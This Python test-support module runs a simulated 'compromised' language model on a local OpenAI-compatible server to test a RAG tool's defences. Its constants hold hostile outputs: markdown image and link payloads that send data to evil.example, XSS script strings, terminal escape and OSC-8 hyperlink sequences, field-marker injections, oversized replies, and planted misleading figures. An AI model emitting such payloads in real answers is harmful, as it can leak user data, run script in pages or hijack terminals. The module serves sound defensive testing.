"""A compromised LM behind a real OpenAI-compatible HTTP server on 127.0.0.1, one attack mode at a time.

`scoperag ask --lm http://127.0.0.1:PORT/v1` (and the HTTP server built the way `scoperag serve` builds
it) talk to it over a real socket. It answers every step the way the cooperative script does and then
does what its attack says: decompositions and answer lines carrying links, images, HTML, Rich markup,
terminal escape codes, field markers or megabytes of text, or failing requests (HTTP 500, 429, a dropped
connection, a request that outlasts the timeout) before it answers. It counts every request it receives.
"""

from __future__ import annotations

import json
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any, Protocol

from tests.support.adversarial import claim
from tests.support.fakes import cooperative, prompt_step
from tests.support.fakes import field as input_field

# The inputs each attack sends, as they were seen breaking the screen, a page or the record.
SUB_QUESTION_LINKS = (
    "What is the rent? ![pixel](http://127.0.0.1:9/exfil.png?d=secret) [click me](https://evil.example/login)"
)
SUB_QUESTION_HTML = "<script>alert(document.cookie)</script><img src=x onerror=alert(1)>"
NESTED_LINKS = (
    "![a [b] c](//evil.example/p.png?d=secret)",
    "[see [this] page](//evil.example/login)",
    "[a\\]b](//evil.example/x)",
)
MARKUP_QUESTION = "What is the monthly rent under clause [/2]?"
# (a link target with a URI scheme or an e-mail address would be removed as any scheme is: see test_sanitise)
RICH_MARKUP = ("[/x]", "[link=contact.html]write to us[/link]", "[bold red]")
ESCAPES = ("\x1bc", "\x1b[2J", "\x1b]8;;https://evil.example/osc\x1b\\open\x1b]8;;\x1b\\", "\x9b2J", "\u202e")
FIELD_MARKERS = ("[[ ## answer ## ]]", "[[ ## completed ## ]]")
HUGE_BULLET_BYTES = 2_400_000

Reply = dict[str, Any]
Failure = str  # "500", "429", "drop" or "slow"


@dataclass(frozen=True)
class Attack:
    """What one mode does to the cooperative answers, and how the first requests fail."""

    decompose: Callable[[Reply], Reply] = lambda reply: reply
    answer: Callable[[Reply], Reply] = lambda reply: reply
    failures: tuple[Failure, ...] = ()
    # an answer line planted in every section, citing the offered sentence that holds its digits
    planted: str | None = None


def _bullets(reply: Reply, extra: Callable[[int, str], str]) -> Reply:
    """`reply`'s answer lines with `extra(number, text)` as each line's text (numbered over the sections)."""
    for number, line in enumerate(reply["answers"]):
        line["answer"] = extra(number, line["answer"])
    return reply


def _huge(reply: Reply) -> Reply:
    line = reply["answers"][0]
    repeated = (line["answer"] + " ") * (HUGE_BULLET_BYTES // (len(line["answer"]) + 1) + 1)
    line["answer"] = repeated[:HUGE_BULLET_BYTES]
    line["sentence_ids"] = list(range(100_000))
    return reply


ATTACKS: dict[str, Attack] = {
    "honest": Attack(),  # no attack: the cooperative answers, each bullet citing its own chunk's page
    "links": Attack(decompose=lambda r: {"sub_questions": [SUB_QUESTION_LINKS, SUB_QUESTION_HTML]}),
    "nested_links": Attack(answer=lambda r: _bullets(r, lambda n, t: f"{t} {NESTED_LINKS[n % len(NESTED_LINKS)]}")),
    "markup": Attack(
        decompose=lambda r: {"sub_questions": [f"What is the rent? {' '.join(RICH_MARKUP)}"]},
        answer=lambda r: _bullets(r, lambda n, t: f"{t} {' '.join(RICH_MARKUP)}"),
    ),
    "escapes": Attack(
        decompose=lambda r: {"sub_questions": [f"What is the rent?{''.join(ESCAPES)}"]},
        answer=lambda r: _bullets(r, lambda n, t: f"{ESCAPES[n % len(ESCAPES)]}{t}{''.join(ESCAPES)}"),
    ),
    "markers": Attack(
        decompose=lambda r: {"sub_questions": [f"What is the rent? {FIELD_MARKERS[0]}"]},
        answer=lambda r: _bullets(r, lambda n, t: f"{t} {FIELD_MARKERS[n % 2]}"),
    ),
    "huge": Attack(
        decompose=lambda r: {
            "sub_questions": [f"What is the rent, part {'y' * (i + 1)}? " + "x" * 20_000 for i in range(50)]
        },
        answer=_huge,
    ),
    # a figure of the documents planted with another meaning (issue 36, D2): its sign, or who pays it
    "negated_deposit": Attack(planted="KSH -570,000"),
    "swapped_payer": Attack(planted="The landlord pays the tenant KSH 570,000"),
    "flaky": Attack(failures=("500", "429", "drop")),
    "slow": Attack(failures=("slow",)),
    "down": Attack(failures=("500",) * 100),
}


def _planted(reply: Reply, prompt: str, line: str) -> Reply:
    """Every answer line `line`, citing the first offered sentence that writes its figure's digits."""
    digits = "".join(c for c in line if c.isdigit() or c == ",").strip(",")
    contexts = {c["sub_question_index"]: c for c in input_field(prompt, "sections_context")}
    for answer in reply["answers"]:
        sentences = contexts[answer["sub_question_index"]]["sentences"]
        holding = [s["sentence_id"] for s in sentences if digits in s["text"]]
        answer["answer"], answer["sentence_ids"] = line, holding[:1]
    return reply


def _claims(reply: Reply, prompt: str) -> Reply:
    """The cooperative answer with each line stating its first sentence's claim (grounded, so it is shown)."""
    contexts = {c["sub_question_index"]: c for c in input_field(prompt, "sections_context")}
    for line in reply["answers"]:
        sentences = contexts[line["sub_question_index"]]["sentences"]
        if sentences:
            line["answer"] = claim(sentences[0]["text"])[:200]
            line["sentence_ids"] = [sentences[0]["sentence_id"]]
    return reply


@dataclass
class CompromisedLM:
    """The server's state: its attack, the requests it received (bodies), and how long a slow request sleeps."""

    attack: Attack
    slow_seconds: float = 3.0
    bodies: list[dict[str, Any]] = field(default_factory=list)
    _lock: threading.Lock = field(default_factory=threading.Lock)

    @property
    def requests(self) -> int:
        return len(self.bodies)

    def receive(self, body: dict[str, Any]) -> tuple[Failure | None, str]:
        """The failure to act out for this request (None: answer) and the content of the answer."""
        with self._lock:
            self.bodies.append(body)
            number = len(self.bodies)
        if number <= len(self.attack.failures):
            return self.attack.failures[number - 1], ""
        prompt = body["messages"][-1]["content"]
        reply = cooperative()(prompt)
        kind = prompt_step(prompt)
        if kind == "decompose":
            reply = self.attack.decompose(reply)
        elif kind == "answer":
            reply = self.attack.answer(_claims(reply, prompt))
            if self.attack.planted is not None:
                reply = _planted(reply, prompt, self.attack.planted)
        return None, json.dumps(reply)


def _completion(content: str) -> bytes:
    return json.dumps(
        {
            "id": "chatcmpl-compromised",
            "object": "chat.completion",
            "created": 0,
            "model": "compromised",
            "choices": [{"index": 0, "finish_reason": "stop", "message": {"role": "assistant", "content": content}}],
            "usage": {"prompt_tokens": 10, "completion_tokens": 5, "total_tokens": 15},
        }
    ).encode()


class Receiver(Protocol):
    """What an OpenAI-compatible test server asks for each request: the failure to act out (None: answer)
    and the content of the answer; and how long a "slow" failure sleeps."""

    slow_seconds: float

    def receive(self, body: dict[str, Any]) -> tuple[Failure | None, str]: ...


def _handler(lm: Receiver) -> type[BaseHTTPRequestHandler]:
    class Handler(BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"

        def log_message(self, format: str, *args: Any) -> None:  # quiet: the test output is the record
            return

        def do_POST(self) -> None:
            body = json.loads(self.rfile.read(int(self.headers.get("content-length", 0))))
            authorizations = getattr(lm, "authorizations", None)
            if authorizations is not None:  # a receiver that records the API key each request carried
                authorizations.append(self.headers.get("authorization", ""))
            failure, content = lm.receive(body)
            if failure == "drop":
                self.close_connection = True
                self.connection.close()
                return
            if failure == "slow":
                time.sleep(lm.slow_seconds)
            if failure in ("500", "429"):
                self._send(
                    int(failure),
                    json.dumps({"error": {"message": f"\x1b]8;;https://evil.example\x1b\\{failure}"}}).encode(),
                )
                return
            self._send(200, _completion(content))

        def _send(self, status: int, data: bytes) -> None:
            try:
                self.send_response(status)
                self.send_header("content-type", "application/json")
                self.send_header("content-length", str(len(data)))
                self.end_headers()
                self.wfile.write(data)
            except (BrokenPipeError, ConnectionResetError):  # the client gave up (a timeout)
                self.close_connection = True

    return Handler


class CooperativeLM:
    """An honest LM for an OpenAI-compatible test server: answers every step as the cooperative script does
    (written or chosen sections alike) and records the API key each request carried."""

    slow_seconds = 0.0

    def __init__(self) -> None:
        self.authorizations: list[str] = []
        self._respond = cooperative()

    def receive(self, body: dict[str, Any]) -> tuple[Failure | None, str]:
        return None, json.dumps(self._respond(body["messages"][-1]["content"]))


@contextmanager
def openai_compatible_server(lm: Receiver, name: str = "test-lm") -> Iterator[str]:
    """`lm` answering chat completions on 127.0.0.1 over a real socket; yields its base URL (for --lm)."""
    server = ThreadingHTTPServer(("127.0.0.1", 0), _handler(lm))
    server.daemon_threads = True
    thread = threading.Thread(target=server.serve_forever, name=name, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_port}/v1"
    finally:
        server.shutdown()
        server.server_close()
        thread.join(5)


@contextmanager
def compromised_server(attack: str, slow_seconds: float = 3.0) -> Iterator[tuple[str, CompromisedLM]]:
    """A compromised LM for `attack` (a key of ATTACKS) on 127.0.0.1: its base URL (for --lm) and its state."""
    lm = CompromisedLM(ATTACKS[attack], slow_seconds)
    with openai_compatible_server(lm, f"compromised-lm-{attack}") as url:
        yield url, lm
